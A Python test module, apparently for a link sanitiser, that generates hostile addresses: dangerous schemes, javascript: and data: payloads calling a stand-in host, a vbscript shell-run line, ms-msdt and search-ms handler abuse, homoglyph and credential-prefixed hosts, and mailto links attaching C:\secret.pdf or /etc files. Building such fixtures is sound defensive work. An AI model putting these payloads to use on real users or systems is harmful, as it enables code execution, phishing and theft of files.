"""Hostile links that are addresses: schemes, hosts that hide, letters that carry files."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING

from tests.faults.hostile_family import HOST, PLANTED, Link, family
from tests.faults.hostile_names import REFUSED_SCHEMES

if TYPE_CHECKING:
    from collections.abc import Iterator

# Schemes

BASES = (f"{HOST}/minutes.pdf", f"papers/{PLANTED}.pdf")


@family
def schemes() -> Iterator[str]:
    for scheme, base in product(REFUSED_SCHEMES, BASES):
        yield f"{scheme}:{base}"
        yield f"{scheme.upper()}://{base}"
        yield f"{scheme.title()}:///{base}"
    for scheme in ("javascript", "vbscript", "data", "file", "search-ms", "ms-msdt", "smb", "ldap"):
        for odd in (
            f" {scheme}:",
            f"{scheme} :",
            f"{scheme}%3a",
            f"{scheme}：",
            f"{scheme}&colon;",
        ):
            yield f"{odd}//{HOST}/{PLANTED}.pdf"


@family
def commands_in_schemes() -> Iterator[str]:
    share = f"\\\\{HOST}\\share"
    yield f"javascript:fetch('//{HOST}')"
    yield f"javascript://{HOST}/%0aalert(1)"
    yield f"data:text/html,<script src=//{HOST}></script>"
    yield f"data:text/html;base64,{PLANTED}"
    yield f"data:;base64,{PLANTED}.pdf"
    yield f'vbscript:CreateObject("WScript.Shell").Run("{PLANTED}")'
    yield f"search-ms:query=minutes&crumb=location:{share}&displayname=Minutes"
    yield f"search:query={PLANTED}&crumb=location:{share}"
    yield f'ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile={PLANTED}"'
    for app, verb in product(
        ("word", "excel", "powerpoint", "access", "visio"), ("ofe", "nft", "ofv")
    ):
        yield f"ms-{app}:{verb}|u|https://{HOST}/minutes.docm"
    yield f'ms-officecmd:{{"id":3,"url":"{HOST}"}}'
    yield f"ms-appinstaller:?source=https://{HOST}/x.appinstaller"
    yield f"mk:@MSITStore:{share}\\x.chm::/{PLANTED}.htm"
    yield f"jar:https://{HOST}/x.jar!/x.html"
    yield f"view-source:https://{HOST}/"
    yield f"blob:https://{HOST}/{PLANTED}"
    yield f"intent://{HOST}/#Intent;scheme=https;end"
    yield f"feed:https://{HOST}/"
    yield f"git://{HOST}/x.git"
    yield f"ldap://{HOST}/o={PLANTED}"
    yield f"tel:+44{PLANTED}"
    yield f"rdp://full%20address=s:{HOST}"


@family
def files_as_addresses() -> Iterator[str]:
    heads = (
        "file://",
        "file:///",
        "file:////",
        "file://///",
        "file:\\\\",
        "file:",
        "FILE://",
        "file:/",
    )
    heads += (
        "file://localhost/",
        "file:///\\\\",
        "file:///C:/",
        "file://C:/",
        "file://%5c%5c",
        "file:/\\",
    )
    for head, base in product(heads, (*BASES, f"{HOST}/share/{PLANTED}.exe")):
        yield head + base


@family
def nearly_the_web() -> Iterator[str]:
    heads = (
        "https:",
        "https:/",
        "https:///",
        "https:\\\\",
        "https:/\\",
        "https://\\",
        "https:////",
    )
    heads += ("hxxps://", "httpsː//", "https：//", "https∶//", "ｈttps://", "һttps://", "https ://")
    heads += (
        "httpss://",
        "https+x://",
        "https%3a//",
        "https&colon;//",
        "url:https://",
        " https://",
    )
    heads += ("https.://", "https_://", "<https://", '"https://', "http:", "http:\\\\", "http:///")
    heads += ("ht%74ps://", "https;//", "https|//", "//https://", "https://https://", "-https://")
    for head, base in product(heads, (f"{HOST}/minutes.pdf", f"{HOST}")):
        yield head + base


# Addresses that hide where they go

FRONTS = ("northshire.example", "northshire.example:443", "user:pw", "", ":", "a%40b", "a@b", "x;y")
FRONTS += ("northshire.example%2f", "northshire.example%00", "northshire.example%5c..", "www.")


@family
def names_before_the_host() -> Iterator[str]:
    for scheme, front in product(("https", "http", "HTTPS"), FRONTS):
        yield f"{scheme}://{front}@{HOST}/minutes.pdf"
        yield f"{scheme}://{front}\\@{HOST}/minutes.pdf"
        yield f"{scheme}://{front or 'x'}%40{HOST}:x@{HOST}/"
        yield f"{scheme}://{front or 'x'}＠{HOST}/minutes.pdf"


@family
def bad_hosts() -> Iterator[str]:
    ports = ("-1", "65536", "99999", "443:443", "abc", "0x1bb", "4 43", "٤٤٣", "443@", "1e3")
    for port in ports:
        yield f"https://{HOST}:{port}/minutes.pdf"
        yield f"http://{HOST}:{port}/"
    hosts = ("0x7f000001", "2130706433", "017700000001", "127.1", "0x7f.0.0.1", "0177.0.0.1")
    hosts += ("①②⑦.0.0.1", "１２７.0.0.1", "[::1", "::1]", "[v1.x]", "[::1]x", "[fe80::1%25eth0]")
    hosts += (
        "%31%32%37.0.0.1",
        "a b",
        "a<b",
        "a|b",
        "a^b",
        "a`b",
        "a{b}",
        'a"b',
        "..",
        ".",
        "a..b",
    )
    for host in hosts:
        yield f"https://{host}/{PLANTED}.pdf"
        yield f"https://{host}:443/{PLANTED}.pdf"
    for sign in "／？＃＠：℀℁⁇﹖＼":
        yield f"https://northshire.example{sign}.{HOST}/minutes.pdf"


@family
def look_alikes() -> Iterator[Link]:
    for name in ("nоrthshire", "northѕhire", "nοrthshire", "ñorthshire", "ⅿinutes", "northshıre"):
        for shape in (f"https://{name}.{HOST}/minutes.pdf", f"https://{HOST}.{name}.example/"):
            yield Link("", shape, may_ask=True, shows="xn--")
    for dot in "。．｡":
        yield Link("", f"https://northshire{dot}{HOST}/", may_ask=True, shows="xn--")


@family
def long_fronts() -> Iterator[Link]:
    for count in (3, 8, 20):
        host = "www.northshire.example." * count + HOST
        yield Link("", f"https://{host}/minutes.pdf", may_ask=True, shows=HOST)
    for path in ("?@", "#@", "/@", "/https://", "?u=https://", "/%40", "/;@"):
        yield Link("", f"https://{HOST}{path}northshire.example/", may_ask=True, shows=HOST)
    for file in ("x.exe", "x.docm", "x.html", "x.iso", "x.pdf.lnk"):
        yield Link("", f"https://{HOST}/{file}", may_ask=True, shows=HOST)
    for port in ("22", "25", "445", "8443"):
        yield Link("", f"https://{HOST}:{port}/x", may_ask=True, shows=HOST)


@family
def letters() -> Iterator[str]:
    keys = (
        "attach",
        "attachment",
        "Attach",
        "ATTACHMENT",
        "%61ttach",
        "att%61chment",
        "a%74tachment",
    )
    for key, join in product(keys, ("?", "?subject=Hello&", "?body=x&", "?&", "?subject=Hello;")):
        yield f"mailto:lead@{HOST}{join}{key}=C:\\secret.pdf"
        yield f"MAILTO:{join}{key}=/etc/{PLANTED}"
    for broken in ("%0d%0aBcc:x", "%0aTo:x", "%0D", "%00", "%E2%80%AE", "%e2%80%8b"):
        yield f"mailto:lead@{HOST}?subject=Hello{broken}"
        yield f"mailto:lead@{HOST}{broken}"
    yield f"mailto://lead@{HOST}/"
    yield f"mailto:\\\\{HOST}\\share"
